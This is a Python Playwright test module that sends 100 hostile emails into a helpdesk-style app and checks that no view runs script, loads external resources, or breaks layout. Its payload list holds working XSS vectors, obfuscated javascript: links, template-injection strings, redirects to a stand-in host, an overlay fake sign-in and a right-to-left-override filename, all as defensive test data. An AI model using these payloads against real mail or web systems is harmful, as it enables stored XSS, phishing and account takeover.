"""Mail that would run something, load something or break out of its place; and a browser that notices if it does.

100 ways, each in five places of a mail: its HTML, the subject, the sender's name, a file's name, an invitation.
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from email.headerregistry import Address
from email.message import EmailMessage
from email.utils import formatdate, make_msgid

from playwright.sync_api import Browser, BrowserContext, Dialog, Page, Route

from tests.browsers import sign_in
from tests.doors import INBOX, Colleague, House, within

PLACES = 5
ELSEWHERE = "https://elsewhere.example"
_RUN = "alert(document.domain)"
_HANDLERS = (
    "onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin", "onpointerenter", "onwheel",
)  # fmt: skip
_ELEMENTS = (
    "<img src=x {0}>", "<svg {0}>", "<body {0}>", "<details open {0}>x</details>", "<video src=x {0}></video>",
)  # fmt: skip
_SCHEMES = (
    "javascript:{0}", "JaVaScRiPt:{0}", "java&#115;cript:{0}", "java\tscript:{0}", "&#x6A;avascript&colon;{0}", "\x01javascript:{0}",
    "data:text/html,<script>{0}</script>", "vbscript:msgbox(1)",
)  # fmt: skip
_ALONE = (
    "<script>{run}</script>", "<script src={away}/1.js></script>", "<ScRiPt >{run}</sCrIpT>", "<<script>script>{run}<</script>/script>",
    "</title><script>{run}</script>", "--><script>{run}</script>", "]]><script>{run}</script>", "\"><script>{run}</script>", "'-{run}-'",
    "</textarea><script>{run}</script>", "</style><script>{run}</script>", "{{{{ {run} }}}}", "${{{run}}}", "{{% include 'x' %}}",
    "<iframe src={away}/2></iframe>", "<iframe srcdoc='<script>{run}</script>'></iframe>", "<object data={away}/3></object>",
    "<embed src={away}/4>", "<base href={away}/>", "<meta http-equiv=refresh content='0;url={away}/5'>", "<link rel=stylesheet href={away}/6.css>",
    "<style>@import url({away}/7.css);</style>", "<div style='background:url({away}/8.png)'>x</div>", "<img src={away}/9.png>",
    "<img srcset='{away}/10.png 2x'>", "<picture><source srcset={away}/11.png><img src=x></picture>", "<video poster={away}/12.png></video>",
    "<audio src={away}/13.mp3 autoplay></audio>", "<input type=image src={away}/14.png>", "<form action={away}/15><button>Sign in</button></form>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>Sign in again</div>", "<svg><script>{run}</script></svg>",
    "<svg><image href={away}/16.png /></svg>", "<svg><use href={away}/17.svg#x /></svg>", "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<template><img src=x onerror={run}></template>", "<table background={away}/18.png><tr><td>x",
    "<marquee onstart={run}>x</marquee>", "<div hx-get=/inbox/open hx-trigger=load hx-target=body>x</div>", "<p id=main style='width:99999px'>x</p>",
    "<a name=body>x</a><img name=body>", "\u202etxt.exe\u2066" + "w" * 300,
)  # fmt: skip


def ways() -> list[str]:
    """A hundred ways to be hostile, those that need no click first."""
    filled = [way.format(run=_RUN, away=ELSEWHERE) for way in _ALONE]
    handled = [each.format(f"{handler}={_RUN}") for handler in _HANDLERS for each in _ELEMENTS]
    linked = [f'<a href="{scheme.format(_RUN)}">Your order</a>' for scheme in _SCHEMES]
    return [*filled, *handled, *linked][:100]


def hostile_mail(way: str, number: int) -> EmailMessage:
    """A mail with this way in five places. Its plain words say `harmless {number}`."""
    on_a_line = " ".join(way.split())
    mail = EmailMessage()
    mail["From"] = Address(on_a_line, "hostile", f"h{number}.example")
    mail["To"] = INBOX
    mail["Subject"] = on_a_line
    mail["Date"] = formatdate()
    mail["Message-ID"] = make_msgid(domain="example.com")
    mail.set_content(f"harmless {number}\n{on_a_line}\n")
    mail.add_alternative(f"<p>harmless {number}</p>{way}<p>the end</p>", subtype="html")
    invitation = (
        f"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:{number}\r\nDTSTART:20300101T100000Z\r\nSUMMARY:{on_a_line}\r\n"
        f"LOCATION:{on_a_line}\r\nORGANIZER;CN={on_a_line.replace(chr(34), '')}:mailto:o@example.com\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    mail.add_attachment(invitation.encode(), "text", "calendar", filename="invite.ics")
    mail.add_attachment(b"words", "text", "plain", filename=f"{on_a_line.replace('/', '')}.txt")
    return mail


@dataclass
class Watch:
    """What a browser did that it should not: dialogs it showed, addresses elsewhere that it asked for."""

    home: str
    dialogs: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def over(self, context: BrowserContext) -> None:
        """Notice all that pages of this context do from now on; nothing leaves this machine."""
        context.on("dialog", self._answer)
        context.route("**/*", self._let_through)

    def assert_quiet(self, where: str) -> None:
        assert (self.dialogs, self.asked) == ([], []), where

    def _answer(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _let_through(self, route: Route) -> None:
        if route.request.url.startswith((self.home, "data:", "blob:", "about:")):
            route.continue_()
        else:
            self.asked.append(route.request.url)
            route.abort()


@contextmanager
def watched(browser: Browser, house: House, who: Colleague) -> Iterator[tuple[Page, Watch]]:
    """A page that is signed in, and what watches over it."""
    context = browser.new_context(viewport={"width": 1440, "height": 900})
    try:
        page = context.new_page()
        sign_in(page, house, who)
        watch = Watch(house.url(""))
        watch.over(context)
        yield page, watch
    finally:
        context.close()


def send_all(house: House, some: Sequence[str]) -> list[tuple[int, int, int]]:
    """Send a mail for each way by SMTP; give conversation number, message and customer of each, once all are open."""
    before = house.one("SELECT COALESCE(MAX(id), 0) FROM conversations_message")
    for number, way in enumerate(some):
        house.mail(hostile_mail(way, number), sender=f"hostile@h{number}.example")
    question = """SELECT c.number, m.id, c.customer_id FROM conversations_message m
        JOIN conversations_conversation c ON c.id = m.conversation_id WHERE m.id > ? ORDER BY m.id"""

    def opened() -> list[tuple[int, int, int]] | None:
        found = house.rows(question, before)
        return [(one[0], one[1], one[2]) for one in found] if len(found) >= len(some) else None

    return within(120, opened, f"all {len(some)} hostile mails are opened")


def look_everywhere(page: Page, house: House, watch: Watch, places: Sequence[tuple[int, int, int]]) -> None:
    """Open each mail wherever it is shown: as a conversation with its mail unfolded, in its frame, raw, with its
    customer; then the list and what search finds. Raises AssertionError at the first that does anything."""
    for number, message, customer in places:
        said = f"/conversations/{number}"
        page.goto(house.url(said))
        page.locator("#conversation-title").wait_for()
        page.locator("details").evaluate_all("all => all.forEach(one => { one.open = true })")
        _assert_in_its_place(page, watch, said)
        page.goto(house.url(f"{said}/messages/{message}/html"))
        assert "harmless" in page.locator("body").inner_text(), f"{page.url} shows nothing of it"
        held = page.locator("script, form, input, button, iframe, object, embed, link, [http-equiv=refresh]")
        assert held.count() == 0, page.content()
        assert page.evaluate("document.baseURI").startswith(house.url("")), page.url
        watch.assert_quiet(page.url)
        for path in (f"{said}/messages/{message}/raw/words", f"/customers/{customer}"):
            page.goto(house.url(path))
            _assert_in_its_place(page, watch, path)
    for path in ("/inbox/open", "/search?q=harmless", "/customers"):
        page.goto(house.url(path))
        page.wait_for_load_state("load")
        _assert_in_its_place(page, watch, path)


def _assert_in_its_place(page: Page, watch: Watch, where: str) -> None:
    wide = page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert wide[0] <= wide[1], f"{where} is {wide[0]} px wide"
    assert (
        page.locator("base[href], [http-equiv=refresh], object, embed, [onerror], [onload]").count() == 0
    ), where
    watch.assert_quiet(where)
